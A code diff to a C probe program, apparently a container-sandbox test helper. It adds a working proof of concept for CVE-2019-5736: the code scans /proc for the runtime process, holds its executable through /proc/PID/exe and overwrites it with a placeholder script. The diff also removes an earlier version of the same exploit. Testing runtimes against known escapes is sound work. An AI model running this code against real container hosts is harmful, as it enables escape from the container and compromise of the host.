@@ -13,7 +13,10 @@
 #include <sys/socket.h>
 #include <sys/stat.h>
 #include <sys/syscall.h>
+#include <dirent.h>
+#include <signal.h>
 #include <sys/wait.h>
+#include <time.h>
 #include <unistd.h>
 
 static int report(long r) {
@@ -23,6 +26,79 @@ static int report(long r) {
     }
     printf("OK %ld\n", r);
     return 0;
+}
+
+/* CVE-2019-5736, the attacker's half. Make FIFO; find a process whose argv[0] is
+ * "/proc/self/exe" (the runtime binary, run inside the container by the kernel when the runtime
+ * exec'd that path or a "#!/proc/self/exe" script) with FIFO among its arguments, and hold its
+ * executable through /proc/PID/exe with O_PATH; open FIFO, which
+ * lets the victim (blocked opening FIFO as its --log) go on and exit; then reopen the held file
+ * for writing and overwrite it. Prints CAUGHT PID, then OK (overwritten) or ERR errno. */
+static int catch_exe(const char *fifo) {
+    if (mkfifo(fifo, 0600) < 0 && errno != EEXIST)
+        return report(-1);
+    printf("READY\n");
+    int fd = -1, victim = 0;
+    for (int round = 0; fd < 0 && round < 200000; round++) {
+        DIR *d = opendir("/proc");
+        struct dirent *e;
+        while (d && fd < 0 && (e = readdir(d))) {
+            int pid = atoi(e->d_name);
+            if (pid <= 0 || pid == getpid())
+                continue;
+            char p[64], cmd[512] = {0};
+            snprintf(p, sizeof p, "/proc/%d/cmdline", pid);
+            int c = open(p, O_RDONLY);
+            if (c < 0)
+                continue;
+            ssize_t n = read(c, cmd, sizeof cmd - 1);
+            close(c);
+            /* the victim: argv[0] "/proc/self/exe" and FIFO among its arguments */
+            if (n <= 0 || strcmp(cmd, "/proc/self/exe"))
+                continue;
+            int marked = 0;
+            for (char *a = cmd; a < cmd + n; a += strlen(a) + 1)
+                marked |= !strcmp(a, fifo);
+            if (!marked)
+                continue;
+            snprintf(p, sizeof p, "/proc/%d/exe", pid);
+            fd = open(p, O_PATH);
+            if (fd >= 0) {
+                printf("CAUGHT %d\n", pid);
+                victim = pid;
+            }
+        }
+        if (d)
+            closedir(d);
+        if (fd < 0)
+            usleep(1000);
+    }
+    if (fd < 0) {
+        printf("MISSED\n");
+        return 1;
+    }
+    int release = open(fifo, O_RDONLY | O_NONBLOCK);
+    (void)release;
+    char p[64];
+    snprintf(p, sizeof p, "/proc/self/fd/%d", fd);
+    long r = -1;
+    for (int i = 0; i < 1000; i++) {
+        int w = open(p, O_WRONLY | O_TRUNC);
+        if (w >= 0) {
+            write(w, "#!/bin/sh\necho pwned\n", 21);
+            r = w;
+            break;
+        }
+        if (errno != ETXTBSY)
+            break;
+        usleep(10000);
+    }
+    int err = errno;
+    /* Keep the fifo open until the victim is gone: it may not have reached its open yet. */
+    for (int i = 0; i < 1000 && kill(victim, 0) == 0; i++)
+        usleep(10000);
+    errno = err;
+    return report(r);
 }
 
 static long num(const char *s) { return strtol(s, NULL, 0); }
@@ -49,6 +125,8 @@ int main(int argc, char **argv) {
         return report(socket(AF_INET, SOCK_RAW, IPPROTO_ICMP));
     if (!strcmp(c, "packetsock"))
         return report(socket(AF_PACKET, SOCK_RAW, 0));
+    if (!strcmp(c, "sock")) /* sock FAMILY TYPE PROTOCOL */
+        return report(socket((int)num(argv[2]), (int)num(argv[3]), (int)num(argv[4])));
     if (!strcmp(c, "mount"))
         return report(mount("none", argc > 2 ? argv[2] : "/tmp", "tmpfs", 0, NULL));
     if (!strcmp(c, "syscall")) {
@@ -86,26 +164,8 @@ int main(int argc, char **argv) {
         }
         return 0;
     }
-    if (!strcmp(c, "exe-write")) {
-        /* CVE-2019-5736: hold the runtime binary through /proc/PID/exe, wait for the runtime
-         * to exit (ETXTBSY gone), then reopen it for writing and overwrite it. */
-        int fd = open(argv[2], O_PATH);
-        if (fd < 0)
-            return report(-1);
-        char p[64];
-        snprintf(p, sizeof p, "/proc/self/fd/%d", fd);
-        for (int i = 0; i < 500; i++) {
-            int w = open(p, O_WRONLY | O_TRUNC);
-            if (w >= 0) {
-                write(w, "#!/bin/sh\necho pwned\n", 21);
-                return report(w);
-            }
-            if (errno != ETXTBSY)
-                return report(-1);
-            usleep(10000);
-        }
-        return report(-1);
-    }
+    if (!strcmp(c, "catch-exe"))
+        return catch_exe(argv[2]);
     fprintf(stderr, "probe: unknown command %s\n", c);
     return 2;
 }
